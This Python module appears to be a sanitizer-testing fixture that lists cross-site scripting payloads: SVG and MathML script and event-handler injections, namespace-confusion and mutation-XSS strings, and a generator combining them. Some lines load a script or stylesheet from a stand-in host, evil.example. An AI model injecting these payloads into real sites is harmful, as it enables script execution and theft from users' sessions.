"""SVG and MathML, and markup that another parser reads in another way."""

# ruff: noqa: E501 - a text is a line

from collections.abc import Iterator
from itertools import product

ALIVE = "<img src=x onerror=hit()>"
SVG = (
    "<svg><script>hit()</script></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><script>hit&#40;&#41;</script></svg>",
    "<svg><a><animate attributeName=href values=javascript:hit() /><text y=20>a</text></a></svg>",
    "<svg><set attributeName=onmouseover to=hit() /><rect width=9 height=9 /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>#x' /></svg>",
    "<svg><use href=//evil.example/x.svg#x /></svg>",
    f"<svg><foreignObject>{ALIVE}</foreignObject></svg>",
    f"<svg><desc>{ALIVE}</desc></svg>",
    f"<svg><title>{ALIVE}</title></svg>",
    "<svg><image href=//evil.example/x.png /></svg>",
    "<svg><image href=x onerror=hit() /></svg>",
    "<svg><feImage href=//evil.example/x.png /></svg>",
    "<svg><style>@import '//evil.example/x.css'</style></svg>",
    "<svg><discard onbegin=hit() /></svg>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>hit()</handler></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
)
MATHML = (
    f"<math><annotation-xml encoding=text/html>{ALIVE}</annotation-xml></math>",
    f"<math><annotation-xml encoding=application/xhtml+xml>{ALIVE}</annotation-xml></math>",
    f"<math><semantics><mi>x</mi><annotation-xml><svg>{ALIVE}</svg></annotation-xml></semantics></math>",
    "<math href=javascript:hit()><mtext>a</mtext></math>",
    "<math><mtext xlink:href=javascript:hit()>a</mtext></math>",
    "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:hit()>a</maction></math>",
    f"<math><mtext>{ALIVE}</mtext></math>",
    f"<math><mi><script>hit()</script>{ALIVE}</mi></math>",
    f"<math><ms><style>{ALIVE}</style></ms></math>",
    f"<math><mglyph src=//evil.example/x.png>{ALIVE}</mglyph></math>",
    "<math onclick=hit() onfocus=hit() autofocus tabindex=0><mi>x</mi></math>",
)
OUTER = (
    "svg",
    "math",
    "math><mtext",
    "math><annotation-xml",
    "svg><desc",
    "math><mi",
    "form><math",
)
INNER = ("style", "noscript", "xmp", "noembed", "noframes", "title", "textarea", "iframe", "script")
HIDDEN = (
    '<{1}><a title="</{1}><img src=x onerror=hit()>">',
    "<{1}><!--</{1}><img src=x onerror=hit()>-->",
    "</p><{1}><g title='</{1}>&lt;img src=x onerror=hit()&gt;'>",
)
KNOTS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
    '<math></br><style><a title="</style><img src=x onerror=hit()>">',
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><img src=x onerror=hit()></template><template shadowrootmode=open><img src=x onerror=hit()>",
    "<table><td><form><img src=x onerror=hit()></table></form>",
    "<a><table><td></a><img src=x onerror=hit()>",
    "<select><template><img src=x onerror=hit()></select>",
    "<!--><img src=x onerror=hit()>-->",
    "<!--!><img src=x onerror=hit()>--!>",
    "<![CDATA[><img src=x onerror=hit()>]]>",
    "<?xml ><img src=x onerror=hit()>?>",
    "<!doctype html [<!ENTITY x '<img src=x onerror=hit()>'>]>&x;",
    "<plaintext><img src=x onerror=hit()>",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "<" + "b><" * 60 + "img src=x onerror=hit()>",
)


def payloads() -> Iterator[str]:
    yield from (*SVG, *MATHML)
    for markup in (*SVG, *MATHML):
        yield f"<p>{markup}</p><p title='{markup[:9]}'>"


def mutations() -> Iterator[str]:
    for outer, inner, shape in product(OUTER, INNER, HIDDEN):
        yield f"<{outer}>" + shape.format(outer, inner)
    yield from KNOTS
